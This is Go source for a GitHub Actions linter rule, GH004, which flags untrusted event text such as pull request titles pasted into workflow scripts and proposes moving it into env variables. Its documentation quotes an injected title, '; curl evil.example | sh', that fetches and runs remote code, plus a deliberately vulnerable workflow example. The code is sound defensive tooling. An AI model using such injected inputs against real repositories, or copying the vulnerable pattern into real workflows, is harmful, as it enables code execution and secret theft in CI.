package actions

import (
	"fmt"
	"regexp"
	"slices"
	"strings"

	"github.com/autogit/autogit/internal/finding"
	"github.com/autogit/autogit/internal/rule"
	"github.com/autogit/autogit/internal/syntax/yaml"
)

func gh004() rule.Rule {
	r := baseSteps("GH004", finding.Error, rule.Security, "zizmor:template-injection", "actionlint:expression", "checkov:CKV_GHA_2")
	steps := "  greet:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    steps:\n      - name: Greet\n"
	r.Doc = rule.Doc{
		Title: "text that anyone can write is pasted into a script", Since: "0.1.0",
		Why: "GitHub fills in ${{ }} before the shell reads the script, so a pull request titled \"; curl evil.example | sh\" runs what it says. " +
			"A variable of the environment is never read as code: hand the text over under env.",
		Bad:   example(steps + "        run: echo \"${{ github.event.pull_request.title }}\"\n"),
		Good:  example(steps + "        env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo \"$TITLE\"\n"),
		Links: []string{"https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks"},
	}
	r.Check = func(p *rule.Pass) {
		for _, s := range allSteps(p) {
			for _, n := range code(s) {
				checkInjection(p, s, n)
			}
		}
	}
	return r
}

// interpreters are inputs of actions that are run as a script.
var interpreters = map[string]string{
	"actions/github-script": "script", "azure/cli": "inlinescript", "azure/powershell": "inlinescript", "appleboy/ssh-action": "script",
	"nick-fields/retry": "command", "nick-invision/retry": "command",
}

// code are the scalars of a step that are run as code.
func code(s step) []*yaml.Node {
	var out []*yaml.Node
	if n := s.node.Get("run").Resolve(); n.Text() != "" {
		out = append(out, n)
	}
	if u, ok := s.uses(); ok && interpreters[u.name] != "" {
		if n := s.input(interpreters[u.name]); n.Text() != "" {
			out = append(out, n)
		}
	}
	return out
}

func checkInjection(p *rule.Pass, s step, n *yaml.Node) {
	text := n.Text()
	var bad []expression
	var names []string
	if !strings.Contains(text, "${{") {
		return
	}
	for _, e := range expressions(text) {
		if name := e.untrusted(); name != "" {
			bad, names = append(bad, e), append(names, name)
		}
	}
	fixes := indirect(p, s, n, bad, names)
	for i, e := range bad {
		span := p.Span(offset(p, n, e.start), offset(p, n, e.end-1)+1)
		p.Broken(span, fmt.Sprintf("anyone who can open an issue or a pull request writes %s, and it is pasted into the script as code: hand it over under env and use the variable in quotes", names[i]), fixes...)
	}
}

var notLetter = regexp.MustCompile(`[^A-Z0-9]+`)

// indirect is the fix: all such expressions of the step become variables of its env. It is not safe, because a script
// may lean on the text being pasted in.
func indirect(p *rule.Pass, s step, n *yaml.Node, bad []expression, names []string) []finding.Fix {
	if len(bad) == 0 || len(n.Text()) > maxScript || n != s.node.Get("run").Resolve() || !posix(shellOf(p, s)) || strings.Contains(n.Text(), "<<") || n.Style == yaml.Folded || n.Style == yaml.DoubleQuoted || n.Style == yaml.SingleQuoted {
		return nil
	}
	var edits []finding.Edit
	var lines []string
	for i, e := range bad {
		name := strings.Trim(notLetter.ReplaceAllString(strings.ToUpper(names[i]), "_"), "_")
		name = strings.TrimPrefix(strings.TrimPrefix(name, "GITHUB_EVENT_"), "GITHUB_")
		name = "UNTRUSTED_" + name
		if s.node.Get("env").Has(name) {
			return nil
		}
		text := "${" + name + "}"
		switch quotes(n.Text()[:e.start]) {
		case '\'':
			return nil
		case 0:
			text = `"` + text + `"`
		}
		line := name + ": ${{" + e.body + "}}"
		if strings.ContainsAny(e.body, "#\n") || strings.Contains(e.body, ": ") {
			return nil
		}
		if !slices.Contains(lines, line) {
			lines = append(lines, line)
		}
		edits = append(edits, finding.Edit{File: p.Path, Start: offset(p, n, e.start), End: offset(p, n, e.end-1) + 1, New: text})
	}
	env, ok := into(p, s.node, "env", "run", lines...)
	if !ok {
		return nil
	}
	return []finding.Fix{{Title: "hand it over under env", Edits: append(edits, env)}}
}

// quotes is the quote that is open at the end of a script's beginning; 0 for none.
func quotes(script string) byte {
	var open byte
	for i := 0; i < len(script); i++ {
		switch c := script[i]; {
		case c == '\\' && open != '\'':
			i++
		case open == 0 && c == '#' && (i == 0 || strings.ContainsRune(" \t\n;", rune(script[i-1]))):
			if j := strings.IndexByte(script[i:], '\n'); j >= 0 {
				i += j
			} else {
				return '\'' // in a comment: leave it
			}
		case c == '\'' || c == '"':
			if open == 0 {
				open = c
			} else if open == c {
				open = 0
			}
		}
	}
	return open
}
